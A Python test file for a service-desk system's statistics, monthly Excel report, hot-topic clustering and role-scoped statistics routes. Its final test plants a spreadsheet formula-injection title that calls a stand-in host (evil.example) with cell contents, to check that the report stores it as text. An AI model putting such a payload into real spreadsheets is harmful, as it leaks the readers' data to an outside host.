"""Desk statistics from hand-built cases, the monthly XLSX report, hot topics and the statistics routes."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from dataclasses import dataclass
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import time_machine
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from auth.models import Role
from auth.service import Principal, principal_for_user
from catalog.models import Department
from core.config import Settings
from core.workcal import WorkCalendar
from desk import handling, intake, jobs, lifecycle, outcome, stats, topics
from desk.models import Case, CaseStatus, EventKind
from desk.schemas import CaseIn, ExtensionIn
from tests import factories

CST = ZoneInfo("Asia/Shanghai")
CAL = WorkCalendar()  # 09:00–12:00, 13:30–18:00 on the official calendar; March 2026 has no holidays


def at(day: int, hour: int, minute: int = 0, month: int = 3) -> dt.datetime:
    return dt.datetime(2026, month, day, hour, minute, tzinfo=CST)


NOW = at(30, 12)  # Monday 2026-03-30


@dataclass
class Month:
    """March 2026 at two departments (Zhongshan profile: closed within 5 working days)."""

    db: Session
    settings: Settings
    dept_a: Department
    dept_b: Department
    supervisor: Principal
    cases: dict[str, Case]


def _submit(db: Session, settings: Settings, actor: Principal, when: dt.datetime, **kw: Any) -> Case:
    data: dict[str, Any] = {"channel": "hotline", "content": "补贴资金迟迟没有拨付，打了几次电话都说在走流程。"} | kw
    return intake.submit_case(db=db, matcher=None, settings=settings, actor=actor, case_in=CaseIn(**data), now=when)


def _call(fn: Any, m: Month, case: Case, actor: Principal, when: dt.datetime, **kw: Any) -> None:
    fn(db=m.db, settings=m.settings, case_id=case.id, actor=actor, now=when, **kw)


def _instant_case(db: Session, settings: Settings, firm: Principal, when: dt.datetime) -> Case:
    """A consultation answered instantly from the knowledge base and accepted by the firm (built directly:
    answering for real needs the embedder and a knowledge base, which test_answer.py covers)."""
    case = Case(
        number=f"T{factories.n()}",
        kind="consultation",
        title="高企认定奖励怎么领",
        content="高企认定通过了，奖励怎么领？",
        channel="web",
        enterprise_id=firm.enterprise_id,
        status=CaseStatus.answered,
        instant_answer={"confident": True, "confidence": 0.93, "citations": []},
        sla_profile="zhongshan",
        received_at=when,
        sla_started_at=when,
        created_at=when,
        updated_at=when,
    )
    db.add(case)
    db.flush()
    lifecycle.add_event(db, case, EventKind.submitted, firm, at=when)
    lifecycle.add_event(
        db, case, EventKind.answered_instantly, None, at=when, from_status="submitted", to_status="answered"
    )
    outcome.accept_answer(db=db, settings=settings, case_id=case.id, actor=firm, now=when + dt.timedelta(minutes=3))
    return case


@pytest.fixture
def month(db: Session, test_settings: Settings) -> Month:
    settings = test_settings.model_copy(update={"desk_sla_profile": "zhongshan", "desk_red_alert_email": ""})
    dept_a, dept_b = factories.make_department(db), factories.make_department(db)
    sup = principal_for_user(factories.make_user(db, role=Role.supervisor))
    desk_a = principal_for_user(factories.make_user(db, role=Role.desk, department_id=dept_a.id))
    desk_b = principal_for_user(factories.make_user(db, role=Role.desk, department_id=dept_b.id))
    firm = principal_for_user(factories.make_user(db, role=Role.enterprise))
    m = Month(db, settings, dept_a, dept_b, sup, {})

    # 1. A, complaint, Mon 03-02 10:00 → resolved Wed 03-04 10:00 (2.0 working days; due 03-09 18:00), 满意.
    c1 = _submit(
        db, settings, sup, at(2, 10), kind="complaint", department_id=dept_a.id, enterprise_id=firm.enterprise_id
    )
    _call(handling.accept, m, c1, desk_a, at(2, 11))
    _call(handling.resolve, m, c1, desk_a, at(4, 10), resolution="已拨付。")
    _call(outcome.rate, m, c1, firm, at(4, 15), rating="satisfied")
    # 2. A, help, Tue 03-03 09:00 → resolved Wed 03-11 09:00 (6.0 working days; due 03-10 18:00: late), 基本满意.
    c2 = _submit(db, settings, sup, at(3, 9), kind="help", department_id=dept_a.id, enterprise_id=firm.enterprise_id)
    _call(handling.accept, m, c2, desk_a, at(3, 10))
    _call(handling.resolve, m, c2, desk_a, at(11, 9), resolution="已协调解决。")
    _call(outcome.rate, m, c2, firm, at(11, 10), rating="basically_satisfied")
    # 3. A, complaint, Wed 03-04 10:00, never resolved (due 03-11 18:00: overdue now); a return and an
    #    extension requested and both rejected.
    c3 = _submit(db, settings, sup, at(4, 10), kind="complaint", department_id=dept_a.id)
    _call(handling.accept, m, c3, desk_a, at(4, 11))
    _call(handling.request_return, m, c3, desk_a, at(5, 9), reason="不属于本部门职责")
    _call(handling.decide_return, m, c3, sup, at(5, 10), approve=False)
    ext = ExtensionIn(amount=3, unit="working_days", reason="需要现场核查")
    _call(handling.request_extension, m, c3, desk_a, at(6, 9), extension_in=ext)
    _call(handling.decide_extension, m, c3, sup, at(6, 10), approve=False)
    # 4. B, suggestion, Thu 03-05 10:00 → resolved Fri 03-06 10:00, rated 不满意 (reopened), resolved again
    #    Mon 03-09 10:00: handling from receipt 2.0 working days; latest rating 不满意.
    c4 = _submit(
        db, settings, sup, at(5, 10), kind="suggestion", department_id=dept_b.id, enterprise_id=firm.enterprise_id
    )
    _call(handling.accept, m, c4, desk_b, at(5, 11))
    _call(handling.resolve, m, c4, desk_b, at(6, 10), resolution="已采纳。")
    _call(outcome.rate, m, c4, firm, at(6, 11), rating="dissatisfied")
    _call(handling.resolve, m, c4, desk_b, at(9, 10), resolution="已补充说明采纳情况。")
    # 5. Instant answer accepted on Fri 03-06 (never dispatched).
    c5 = _instant_case(db, settings, firm, at(6, 14))
    # 6. Received on 02-27: outside March.
    c6 = _submit(db, settings, sup, at(27, 10, month=2), kind="complaint", department_id=dept_b.id)
    m.cases = {"1": c1, "2": c2, "3": c3, "4": c4, "5": c5, "6": c6}
    return m


def test_site_wide_figures_match_the_hand_count(month: Month) -> None:
    s = stats.compute_stats(db=month.db, calendar=CAL, start=dt.date(2026, 3, 1), end=dt.date(2026, 3, 31), now=NOW)
    assert s.total == 5
    assert s.by_kind == {"consultation": 1, "help": 1, "complaint": 2, "report": 0, "suggestion": 1}
    assert s.by_channel["hotline"] == 4 and s.by_channel["web"] == 1
    assert (s.instant_answered, s.instant_answer_rate) == (1, 0.2)
    assert (s.dispatched, s.solved, s.finished, s.closure_rate) == (4, 3, 4, 0.8)
    # Due: 1, 2, 4 (finished) and 3 (overdue); on time: 1 and 4 (against its reopened round's deadline).
    assert (s.due, s.on_time, s.on_time_rate, s.overdue_now) == (4, 2, 0.5, 1)
    assert s.avg_working_days == pytest.approx((2.0 + 6.0 + 2.0) / 3, abs=0.01)
    assert s.ratings == {"satisfied": 1, "basically_satisfied": 1, "dissatisfied": 1}
    assert (s.rated, s.satisfaction_rate) == (3, 0.6667)
    assert s.reopened == 1


def test_per_department_table_for_assessment(month: Month) -> None:
    s = stats.compute_stats(db=month.db, calendar=CAL, start=dt.date(2026, 3, 1), end=dt.date(2026, 3, 31), now=NOW)
    rows = {r.department_id: r for r in s.departments}
    assert set(rows) == {month.dept_a.id, month.dept_b.id}  # the instant answer belongs to no department
    a, b = rows[month.dept_a.id], rows[month.dept_b.id]
    assert (a.received, a.finished, a.solved, a.due, a.on_time, a.overdue_now) == (3, 2, 2, 3, 1, 1)
    assert a.on_time_rate == 0.3333 and a.avg_working_days == 4.0
    assert (a.rated, a.satisfied, a.satisfaction_rate) == (2, 2, 1.0)
    assert (a.returns, a.extensions) == (1, 1)
    assert (b.received, b.finished, b.on_time, b.on_time_rate, b.avg_working_days) == (1, 1, 1, 1.0, 2.0)
    assert (b.rated, b.satisfied, b.satisfaction_rate, b.returns, b.extensions) == (1, 0, 0.0, 0, 0)
    assert b.department_name == month.dept_b.name


def test_one_department_and_a_period_without_cases(month: Month) -> None:
    only_b = stats.compute_stats(
        db=month.db,
        calendar=CAL,
        start=dt.date(2026, 3, 1),
        end=dt.date(2026, 3, 31),
        department_id=month.dept_b.id,
        now=NOW,
    )
    assert only_b.total == 1 and [r.department_id for r in only_b.departments] == [month.dept_b.id]
    feb = stats.compute_stats(
        db=month.db, calendar=CAL, start=dt.date(2026, 2, 1), end=dt.date(2026, 2, 28), department_id=month.dept_b.id
    )
    assert feb.total == 1 and feb.solved == 0 and feb.avg_working_days is None and feb.satisfaction_rate is None
    empty = stats.compute_stats(db=month.db, calendar=CAL, start=dt.date(2026, 1, 1), end=dt.date(2026, 1, 31))
    assert empty.total == 0 and empty.closure_rate is None and empty.departments == []


def test_escalations_count_the_highest_level_reached(month: Month) -> None:
    with time_machine.travel(NOW, tick=False):
        jobs.sla_scan(settings=month.settings, db=month.db)
    s = stats.compute_stats(db=month.db, calendar=CAL, start=dt.date(2026, 3, 1), end=dt.date(2026, 3, 31), now=NOW)
    assert s.escalations == {"yellow": 0, "orange": 0, "red": 1}  # case 3, far past its deadline


def test_monthly_report_opens_with_its_sheets(month: Month) -> None:
    data = stats.monthly_report(db=month.db, calendar=CAL, month="2026-03", now=NOW)
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["汇总", "部门考核", "热点诉求", "政策咨询热度", "申报兑现", "部门兑现"]
    summary = {row[0]: row[1] for row in book["汇总"].iter_rows(min_row=2, values_only=True)}
    assert summary["诉求总数"] == 5 and summary["按时办结率"] == 0.5 and summary["满意率"] == 0.6667
    assert summary["统计期间"] == "2026-03-01 至 2026-03-31"
    rows = list(book["部门考核"].iter_rows(values_only=True))
    assert rows[0][:3] == ("部门", "受理量（派单）", "办结量")
    by_name = {r[0]: r for r in rows[1:]}
    assert by_name[month.dept_a.name][1] == 3 and by_name[month.dept_a.name][6] == 0.3333
    assert book["部门考核"].cell(row=2, column=7).number_format == "0.00%"


def test_report_month_must_be_a_month(month: Month) -> None:
    from core.errors import ValidationFailed

    with pytest.raises(ValidationFailed):
        stats.monthly_report(db=month.db, calendar=CAL, month="2026-13")


# ---------------------------------------------------------------- hot topics

RENT = [
    "我们是小微企业，房租补贴怎么申请？",
    "小微企业房租补贴如何申请",
    "请问小微企业的房租补贴在哪里申请",
    "房租补贴申请需要什么材料，我们是小微企业",
    "小微企業房租補貼怎麼申請？",  # traditional characters
]
EXPORT = [
    "出口退税的单证备案需要准备哪些资料",
    "外贸企业办出口退税，要不要先做出口退（免）税备案",
    "出口退税的申报期限是什么时候",
]
OTHER = [
    "鱼塘发生大面积死鱼，能不能派技术人员来看看",
    "电子税务局登录一直提示身份验证失败",
    "建议翠亨新区多建一些员工生活配套，食堂太少了",
    "工伤认定要多久，员工上班路上出了车祸",
]


def test_hot_topics_group_near_duplicate_questions(db: Session, test_settings: Settings) -> None:
    settings = test_settings.model_copy(update={"desk_sla_profile": "zhongshan"})
    dept = factories.make_department(db)
    sup = principal_for_user(factories.make_user(db, role=Role.supervisor))
    policy = factories.make_policy(db, publish=True)
    ids: dict[str, list[int]] = {"rent": [], "export": [], "other": []}
    for i, (group, texts) in enumerate((("rent", RENT), ("export", EXPORT), ("other", OTHER))):
        for j, text in enumerate(texts):
            related = policy.id if group == "rent" else None
            case = _submit(
                db,
                settings,
                sup,
                at(10 + i, 9 + j),
                kind="consultation",
                content=text,
                title=text[:20],
                department_id=dept.id,
                related_policy_id=related,
            )
            ids[group].append(case.id)
    cited = {"source": "policy", "id": policy.id, "title": policy.title}
    shown, unsure = (db.get(Case, ids["other"][0]), db.get(Case, ids["other"][1]))
    assert shown is not None and unsure is not None
    shown.instant_answer = {"confident": True, "citations": [cited]}
    unsure.instant_answer = {"confident": False, "citations": [cited]}  # never shown to the firm: not counted
    db.flush()
    result = topics.hot_topics(db=db, start=at(1, 0), end=at(31, 0), policy_flag_min=6)
    assert result.cases == 12 and not result.truncated
    first, second = result.topics[0], result.topics[1]
    assert first["case_ids"] == sorted(ids["rent"]) and first["count"] == 5
    assert first["representative"]["case_id"] in ids["rent"]
    assert "房租补贴" in first["terms"] and "小微企业" in first["terms"]
    assert second["case_ids"] == sorted(ids["export"]) and "出口退税" in second["terms"]
    assert first["departments"] == [{"department_id": dept.id, "name": dept.name, "count": 5}]
    assert all(set(t["case_ids"]).isdisjoint(ids["other"]) for t in result.topics)
    [flag] = result.policies
    assert (flag["policy_id"], flag["enquiries"], flag["related"], flag["cited"]) == (policy.id, 6, 5, 1)
    assert flag["flagged"]
    fewer = topics.hot_topics(db=db, start=at(1, 0), end=at(31, 0), policy_flag_min=7)
    assert not fewer.policies[0]["flagged"]


def test_cluster_texts_without_enough_text_finds_nothing() -> None:
    assert topics.cluster_texts([]) == []
    assert topics.cluster_texts(["请问", "怎么办？"]) == []
    clusters = topics.cluster_texts(RENT + OTHER)
    assert [sorted(c.members) for c in clusters] == [[0, 1, 2, 3, 4]]


# ---------------------------------------------------------------- routes


def test_stats_routes_scope_desk_officers_to_their_department(month: Month, client, auth_headers) -> None:  # type: ignore[no-untyped-def]
    period = {"start": "2026-03-01", "end": "2026-03-31"}
    sup = client.get("/api/v1/desk/stats", params=period, headers=auth_headers(Role.supervisor))
    assert sup.status_code == 200 and sup.json()["total"] == 5
    officer = auth_headers(Role.desk, department_id=month.dept_a.id)
    own = client.get("/api/v1/desk/stats", params=period, headers=officer)
    assert own.status_code == 200 and own.json()["total"] == 3 and own.json()["department_id"] == month.dept_a.id
    other = client.get("/api/v1/desk/stats", params={**period, "department_id": month.dept_b.id}, headers=officer)
    assert other.status_code == 403
    firm = client.get("/api/v1/desk/stats", params=period, headers=auth_headers(Role.enterprise))
    assert firm.status_code == 403

    report = client.get("/api/v1/desk/stats/report", params={"month": "2026-03"}, headers=officer)
    assert report.status_code == 200
    assert report.headers["content-type"].startswith("application/vnd.openxmlformats")
    book = load_workbook(io.BytesIO(report.content))
    names = [r[0] for r in book["部门考核"].iter_rows(min_row=2, values_only=True)]
    assert names == [month.dept_a.name]

    hot = client.get("/api/v1/desk/hot-topics", params={"days": 366}, headers=auth_headers(Role.curator))
    assert hot.status_code == 200 and hot.json()["cases"] >= 6


@pytest.mark.parametrize("role", list(Role))
def test_desk_stats_api_and_dashboard_agree_on_who_sees_desk_figures(
    role: Role, db: Session, client, test_settings
) -> None:  # type: ignore[no-untyped-def]
    """One permission (stats.STATS_ROLES): a role that sees the dashboard's desk panel reads the API, and vice versa."""
    from auth import service as auth_service
    from web.deps import SESSION_COOKIE

    kw: dict[str, Any] = {}
    if role == Role.desk:
        kw["department_id"] = factories.make_department(db).id
    if role == Role.enterprise:
        kw["enterprise_id"] = factories.make_enterprise(db).id
    user = factories.make_user(db, role=role, **kw)
    token = auth_service.access_token_for(settings=test_settings, user=user)
    api = client.get("/api/v1/desk/stats", headers={"Authorization": f"Bearer {token}"})
    client.cookies.set(SESSION_COOKIE, token)
    page = client.get("/dashboard/data", follow_redirects=False)
    sees_panel = page.status_code == 200 and "desk" in page.json()
    assert (api.status_code == 200) == sees_panel == (role in stats.STATS_ROLES), (api.status_code, page.status_code)
    if sees_panel:
        assert api.json()["total"] == page.json()["desk"]["total"]


def test_monthly_report_writes_firm_text_as_text_never_a_formula(month: Month) -> None:
    """A firm's title led by "=" stays a string cell in 热点诉求; control characters do not break the file."""
    firm = principal_for_user(factories.make_user(month.db, role=Role.enterprise))
    hostile = '=HYPERLINK("http://evil.example/?q="&A1,"点我查看补贴")\x0b\x1f'
    for n, content in enumerate(RENT[:3]):
        _submit(
            month.db, month.settings, firm, at(10 + n, 10), kind="help", channel="web", title=hostile, content=content
        )
    data = stats.monthly_report(db=month.db, calendar=CAL, month="2026-03", now=NOW)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    assert not any("<f>" in xml or "<f " in xml for xml in sheets), "a cell was written as a formula"
    book = load_workbook(io.BytesIO(data))
    cells = [c for row in book["热点诉求"].iter_rows() for c in row if "HYPERLINK" in str(c.value)]
    assert cells, "the hostile title is not in the hot-topic sheet"
    for cell in cells:
        assert cell.data_type == "s" and cell.quotePrefix
        assert cell.value == '=HYPERLINK("http://evil.example/?q="&A1,"点我查看补贴")'
